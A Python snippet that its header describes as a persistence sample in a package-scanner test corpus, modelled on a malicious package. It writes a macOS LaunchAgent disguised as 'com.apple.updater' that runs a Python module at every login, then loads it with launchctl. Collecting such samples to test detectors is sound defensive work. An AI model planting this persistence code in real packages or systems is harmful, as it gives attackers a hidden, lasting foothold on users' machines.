# pkgguard corpus 088 (persistence), modelled on [telnyx]; inert, never run.
import os
import subprocess

plist = os.path.expanduser("~/Library/LaunchAgents/com.apple.updater.plist")
with open(plist, "w") as f:
    f.write("<plist><dict><key>Label</key><string>com.apple.updater</string>"
            "<key>ProgramArguments</key><array><string>/usr/bin/python3</string>"
            "<string>-m</string><string>pkg.agent</string></array>"
            "<key>RunAtLoad</key><true/></dict></plist>")
subprocess.run(["launchctl", "load", plist])
